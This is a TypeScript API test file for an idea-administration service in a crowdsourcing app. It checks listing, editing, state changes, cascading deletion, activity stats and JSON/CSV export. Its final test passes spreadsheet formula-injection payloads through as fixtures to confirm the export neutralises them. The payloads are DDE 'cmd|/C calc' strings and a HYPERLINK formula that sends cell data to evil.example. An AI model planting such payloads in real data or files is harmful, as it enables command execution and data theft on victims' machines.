import {
  STALE_ENTITY_HEADER,
  ZIdeaAdmin,
  ZIdeaExport,
  ZIdeaListResponse,
  slugifyCategoryName,
  type TIdea,
} from '@crowd/contracts';
import sharp from 'sharp';
import { SettableClock } from '../../src/infra/clock/clock';
import { Category } from '../../src/modules/idea/category/entities/category.entity';
import { Crowd } from '../../src/modules/crowd/crowd/entities/crowd.entity';
import { Question } from '../../src/modules/idea/questionnaire/entities/question.entity';
import { StoredFile } from '../../src/infra/files/stored-file.entity';
import { Answer } from '../../src/modules/idea/idea/entities/answer.entity';
import { Comment } from '../../src/modules/idea/comment/entities/comment.entity';
import { IdeaLike } from '../../src/modules/idea/idea/entities/idea-like.entity';
import { IdeaRating } from '../../src/modules/idea/idea/entities/idea-rating.entity';
import { Idea } from '../../src/modules/idea/idea/entities/idea.entity';
import { Notification } from '../../src/modules/notification/notification/entities/notification.entity';
import { authTestApp, signIn } from '../support/auth-app';
import { addMember, createCrowd, createUser } from '../support/factories';
import { createQuestionnaire } from '../support/questionnaires';
import { binaryBody } from '../support/binary-body';

const DAY_MS = 24 * 60 * 60 * 1000;

describe('idea administration (GET /idea, PUT /idea/admin, PUT /idea/changeState, DELETE, stats, export)', () => {
  // Stands still at the start, so the day windows are exact; subscriptions are valid from now.
  const clock = new SettableClock();
  const testApp = authTestApp(() => ({ clock }));
  const { api } = testApp;
  const repo = <T extends object>(entity: new () => T) => testApp.dataSource.getRepository(entity);

  const picture = (background: string) =>
    sharp({ create: { width: 200, height: 100, channels: 3, background } })
      .png()
      .toBuffer();

  /** A crowd with a signed-in admin, manager and follower (the follower authors ideas). */
  async function staffedCrowd(title = 'Green city') {
    const crowd = await createCrowd(testApp.dataSource, { title });
    const person = async (role: 'CROWD_ADMIN' | 'CROWD_MANAGER' | 'CROWD_FOLLOWER') => {
      const user = await createUser(testApp.dataSource);
      await addMember(testApp.dataSource, crowd.id, user.id, role);
      return { user, cookie: await signIn(testApp.app, user.email) };
    };
    return {
      crowd,
      admin: await person('CROWD_ADMIN'),
      manager: await person('CROWD_MANAGER'),
      follower: await person('CROWD_FOLLOWER'),
    };
  }

  /** An idea posted through the API by `cookie`, with images, so deletion has files to remove. */
  async function postIdea(cookie: string, crowdId: number, fields: Record<string, string> = {}): Promise<TIdea> {
    const request = api().post('/api/idea').set('Cookie', cookie);
    for (const [name, value] of Object.entries({
      name: 'Trees',
      description: '<p>Plant trees</p>',
      crowdId: String(crowdId),
      ...fields,
    }))
      request.field(name, value);
    request.attach('attachments', await picture('#0a0'), 'a.png').attach('featuredImg', await picture('#00a'), 'c.png');
    const response = await request.expect(201);
    return response.body.idea as TIdea;
  }

  const adminUpdate = (
    cookie: string,
    idea: Pick<TIdea, 'id' | 'version' | 'crowdId' | 'fileIds'>,
    fields: Record<string, string> = {},
  ) => {
    const request = api().put('/api/idea/admin').set('Cookie', cookie);
    const all = {
      id: String(idea.id),
      version: String(idea.version),
      crowdId: String(idea.crowdId),
      name: 'Trees',
      description: '<p>Plant trees</p>',
      ...fields,
    };
    for (const [name, value] of Object.entries(all)) request.field(name, value);
    if (!('fileIds' in fields)) for (const id of idea.fileIds) request.field('fileIds', String(id));
    return request;
  };

  it("lists the user's own ideas and those of crowds the user runs, with crowd title and creation answers", async () => {
    const { crowd, manager, follower } = await staffedCrowd('Runs this');
    const { questions } = await createQuestionnaire(testApp.dataSource, crowd.id, 'IDEA_CREATION', [['TEXT', 'Why?']]);
    const byFollower = await postIdea(follower.cookie, crowd.id, {
      answers: JSON.stringify([{ questionId: questions[0]!.id, answer: 'Shade in summer' }]),
    });
    const elsewhere = await createCrowd(testApp.dataSource, { title: 'Follows that' });
    await addMember(testApp.dataSource, elsewhere.id, follower.user.id, 'CROWD_FOLLOWER');
    await addMember(testApp.dataSource, elsewhere.id, manager.user.id, 'CROWD_FOLLOWER');
    const ownElsewhere = await postIdea(follower.cookie, elsewhere.id, { name: 'Benches' });

    const managerList = ZIdeaListResponse.parse(
      (await api().get('/api/idea').set('Cookie', manager.cookie).expect(200)).body,
    ).ideas;
    expect(managerList.map((idea) => idea.id)).toEqual([byFollower.id]);
    expect(managerList[0]).toMatchObject({
      crowdTitle: 'Runs this',
      answers: [
        { questionId: questions[0]!.id, questionType: 'TEXT', questionText: 'Why?', answer: 'Shade in summer' },
      ],
    });

    const followerList = ZIdeaListResponse.parse(
      (await api().get('/api/idea').set('Cookie', follower.cookie).expect(200)).body,
    ).ideas;
    expect(followerList.map((idea) => idea.id).sort()).toEqual([byFollower.id, ownElsewhere.id].sort());
    await api().get('/api/idea').expect(401);
  });

  it('lets the staff edit an idea with its tags and media; refuses followers and other crowds’ admins', async () => {
    const { crowd, manager, follower } = await staffedCrowd();
    const idea = await postIdea(follower.cookie, crowd.id);
    const response = await adminUpdate(manager.cookie, idea, {
      name: 'Trees on every street',
      featured: 'true',
      rewarded: 'true',
      implemented: 'true',
      fileIds: '',
    }).expect(200);
    const saved = ZIdeaAdmin.parse(response.body.idea);
    expect(saved).toMatchObject({
      name: 'Trees on every street',
      featured: true,
      rewarded: true,
      implemented: true,
      version: idea.version + 1,
      fileIds: [],
    });
    expect(saved.tags.sort()).toEqual(['featured', 'implemented', 'rewarded']);
    expect(await repo(StoredFile).existsBy({ id: idea.fileIds[0]! })).toBe(false);

    const empty = await adminUpdate(manager.cookie, saved, { description: '<p></p>' }).expect(422);
    expect(empty.body.errors).toEqual([{ param: 'description', msg: 'validation_idea_description' }]);
    await adminUpdate(follower.cookie, saved).expect(403);
    const other = await staffedCrowd();
    await adminUpdate(other.admin.cookie, saved).expect(403);
    const stale = await adminUpdate(manager.cookie, idea).expect(409);
    expect(stale.headers[STALE_ENTITY_HEADER.toLowerCase()]).toBe('Idea');
  });

  it('changes the state for the staff, optimistically', async () => {
    const { crowd, admin, follower } = await staffedCrowd();
    const idea = await postIdea(follower.cookie, crowd.id);
    const change = (cookie: string, version: number, ideaState: string) =>
      api()
        .put('/api/idea/changeState')
        .set('Cookie', cookie)
        .send({ id: idea.id, crowdId: crowd.id, version, ideaState });

    const response = await change(admin.cookie, idea.version, 'APPROVED').expect(200);
    expect(response.body).toMatchObject({
      message: 'idea_updated',
      idea: { ideaState: 'APPROVED', version: idea.version + 1 },
    });
    await change(admin.cookie, idea.version, 'REJECTED').expect(409);
    const invalid = await change(admin.cookie, idea.version + 1, 'DONE').expect(422);
    expect(invalid.body.errors).toEqual([{ param: 'ideaState', msg: 'validation_idea_state' }]);
    await change(follower.cookie, idea.version + 1, 'REJECTED').expect(403);
    expect((await repo(Idea).findOneByOrFail({ id: idea.id })).state).toBe('APPROVED');
  });

  it('deletes an idea with its comments, likes, ratings, answers, files and notifications; for its owner and the admins', async () => {
    const { crowd, admin, manager, follower } = await staffedCrowd();
    const category = await repo(Category).save(
      repo(Category).create({
        crowdId: crowd.id,
        name: 'Streets',
        slug: slugifyCategoryName('Streets'),
        description: null,
      }),
    );
    const idea = await postIdea(follower.cookie, crowd.id, { categoryId: String(category.id) });
    const now = clock.now();
    await repo(Comment).insert({
      ideaId: idea.id,
      crowdId: crowd.id,
      ownerId: admin.user.id,
      authorName: 'A',
      content: 'Nice',
      createdAt: now,
      updatedAt: now,
    });
    await repo(IdeaLike).insert({ ideaId: idea.id, userId: admin.user.id, createdAt: now });
    await repo(IdeaRating).insert({ ideaId: idea.id, userId: admin.user.id, value: 4, createdAt: now, updatedAt: now });
    await repo(Notification).insert({
      userId: follower.user.id,
      type: 'ideaLiked',
      entityType: 'idea',
      entityId: idea.id,
      data: { name: 'Trees' },
      createdAt: now,
    });
    const files = [...idea.fileIds, idea.featuredImageId!];

    await api().delete(`/api/idea/${crowd.id}/${idea.id}`).set('Cookie', manager.cookie).expect(403);
    await api()
      .delete(`/api/idea/${crowd.id}/${idea.id}`)
      .set('Cookie', follower.cookie)
      .expect(200, { message: 'idea_deleted' });

    expect(await repo(Idea).existsBy({ id: idea.id })).toBe(false);
    for (const entity of [Comment, IdeaLike, IdeaRating, Answer] as const)
      expect(await testApp.dataSource.getRepository(entity).countBy({ ideaId: idea.id })).toBe(0);
    expect(await repo(Notification).countBy({ entityType: 'idea', entityId: idea.id })).toBe(0);
    for (const fileId of files) expect(await repo(StoredFile).existsBy({ id: fileId })).toBe(false);
    expect((await repo(Crowd).findOneByOrFail({ id: crowd.id })).ideasCount).toBe(0);
    expect((await repo(Category).findOneByOrFail({ id: category.id })).ideaCount).toBe(0);

    const another = await postIdea(follower.cookie, crowd.id);
    await api().delete(`/api/idea/${crowd.id}/${another.id}`).set('Cookie', admin.cookie).expect(200);
    await api().delete(`/api/idea/${crowd.id}/${another.id}`).set('Cookie', admin.cookie).expect(404);
  });

  it('counts comments and likes for all time, the last 7 and the last 30 days by the clock', async () => {
    const { crowd, admin, follower } = await staffedCrowd();
    const idea = await postIdea(follower.cookie, crowd.id);
    const daysAgo = (days: number) => new Date(clock.now().getTime() - days * DAY_MS);
    for (const [index, days] of [1, 6, 8, 29, 31].entries()) {
      const at = daysAgo(days);
      await repo(Comment).insert({
        ideaId: idea.id,
        crowdId: crowd.id,
        ownerId: null,
        authorName: 'A',
        content: `c${index}`,
        createdAt: at,
        updatedAt: at,
      });
      const liker = await createUser(testApp.dataSource);
      await repo(IdeaLike).insert({ ideaId: idea.id, userId: liker.id, createdAt: at });
    }
    const stats = async () =>
      (await api().get(`/api/idea/stats/${crowd.id}/${idea.id}`).set('Cookie', admin.cookie).expect(200)).body.stats;
    expect(await stats()).toEqual({
      comments: { all: 5, last7Days: 2, last30Days: 4 },
      likes: { all: 5, last7Days: 2, last30Days: 4 },
    });
    clock.advance(2 * DAY_MS);
    expect((await stats()).likes).toEqual({ all: 5, last7Days: 1, last30Days: 3 });
    clock.advance(-2 * DAY_MS);
    await api().get(`/api/idea/stats/${crowd.id}/${idea.id}`).set('Cookie', follower.cookie).expect(403);
  });

  it('exports every answer as JSON or CSV, also after the questionnaires changed', async () => {
    const { crowd, admin, follower } = await staffedCrowd();
    const creation = await createQuestionnaire(testApp.dataSource, crowd.id, 'IDEA_CREATION', [['TEXT', 'Prečo?']]);
    const like = await createQuestionnaire(testApp.dataSource, crowd.id, 'IDEA_LIKE', [
      ['SINGLE_CHOICE', 'Ako často?', 'Denne', 'Týždenne'],
    ]);
    const idea = await postIdea(follower.cookie, crowd.id, {
      name: 'Stromy na námestí',
      answers: JSON.stringify([{ questionId: creation.questions[0]!.id, answer: 'Tieň, "chládok"; vtáky' }]),
    });
    const question = like.questions[0]!;
    await api()
      .post(`/api/ideaLike/${crowd.subdomain}`)
      .set('Cookie', admin.cookie)
      .send({
        ideaId: idea.id,
        questionnaireId: like.questionnaire.id,
        questionnaireAnswers: [{ questionId: question.id, optionIds: [question.options[1]!.id] }],
      })
      .expect(201);
    await repo(Question).update({ id: question.id }, { questionText: 'Renamed', deletedAt: new Date() });

    const json = await api().get(`/api/idea/export/${crowd.id}/${idea.id}`).set('Cookie', admin.cookie).expect(200);
    expect(json.headers['content-disposition']).toBe(`attachment; filename="idea-${idea.id}-answers.json"`);
    const exported = ZIdeaExport.parse(json.body);
    expect(exported.creationAnswers).toEqual([
      expect.objectContaining({ questionText: 'Prečo?', answer: 'Tieň, "chládok"; vtáky' }),
    ]);
    expect(exported.likeAnswers).toEqual([
      expect.objectContaining({
        answers: [
          expect.objectContaining({ questionText: 'Ako často?', questionType: 'SINGLE_CHOICE', options: ['Týždenne'] }),
        ],
      }),
    ]);

    const csv = await api()
      .get(`/api/idea/export/${crowd.id}/${idea.id}?format=csv`)
      .set('Cookie', admin.cookie)
      .buffer(true)
      .parse(binaryBody)
      .expect(200);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.headers['content-disposition']).toBe(`attachment; filename="idea-${idea.id}-answers.csv"`);
    const text = (csv.body as Buffer).toString('utf8');
    expect(text.startsWith('\uFEFFIdea,Questionnaire,Question,Answer,Author,Date\r\n')).toBe(true);
    const lines = text.trim().split('\r\n');
    expect(lines).toHaveLength(3);
    expect(lines[1]).toContain('Stromy na námestí,creation,Prečo?,"Tieň, ""chládok""; vtáky"');
    expect(lines[2]).toContain('Stromy na námestí,like,Ako často?,Týždenne');

    await api().get(`/api/idea/export/${crowd.id}/${idea.id}`).set('Cookie', follower.cookie).expect(403);
    await api().get(`/api/idea/export/${crowd.id}/${idea.id}?format=xml`).set('Cookie', admin.cookie).expect(422);
  });

  it('exports names and answers that look like spreadsheet formulas as text (formula injection)', async () => {
    const { crowd, admin } = await staffedCrowd();
    const creation = await createQuestionnaire(testApp.dataSource, crowd.id, 'IDEA_CREATION', [['TEXT', 'Why?']]);
    const like = await createQuestionnaire(testApp.dataSource, crowd.id, 'IDEA_LIKE', [['TEXT', 'How?']]);
    const author = await createUser(testApp.dataSource, { name: "@SUM(1+1)*cmd|' /C calc'!A0" });
    await addMember(testApp.dataSource, crowd.id, author.id);
    const liker = await createUser(testApp.dataSource, { name: "-2+3+cmd|' /C calc'!A0" });
    await addMember(testApp.dataSource, crowd.id, liker.id);
    const ideaName = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    const idea = await postIdea(await signIn(testApp.app, author.email), crowd.id, {
      name: ideaName,
      answers: JSON.stringify([{ questionId: creation.questions[0]!.id, answer: "+1+cmd|' /C calc'!A0" }]),
    });
    await api()
      .post(`/api/ideaLike/${crowd.subdomain}`)
      .set('Cookie', await signIn(testApp.app, liker.email))
      .send({
        ideaId: idea.id,
        questionnaireId: like.questionnaire.id,
        questionnaireAnswers: [{ questionId: like.questions[0]!.id, answer: '=1+1' }],
      })
      .expect(201);

    const csv = await api()
      .get(`/api/idea/export/${crowd.id}/${idea.id}?format=csv`)
      .set('Cookie', admin.cookie)
      .buffer(true)
      .parse(binaryBody)
      .expect(200);
    const [, creationRow, likeRow] = (csv.body as Buffer).toString('utf8').trim().split('\r\n');
    const quotedIdeaName = `"'${ideaName.replaceAll('"', '""')}"`;
    const creationCells = `${quotedIdeaName},creation,Why?,'+1+cmd|' /C calc'!A0,'@SUM(1+1)*cmd|' /C calc'!A0,`;
    const likeCells = `${quotedIdeaName},like,How?,'=1+1,'-2+3+cmd|' /C calc'!A0,`;
    expect(creationRow?.slice(0, creationCells.length)).toBe(creationCells);
    expect(likeRow?.slice(0, likeCells.length)).toBe(likeCells);
  });
});
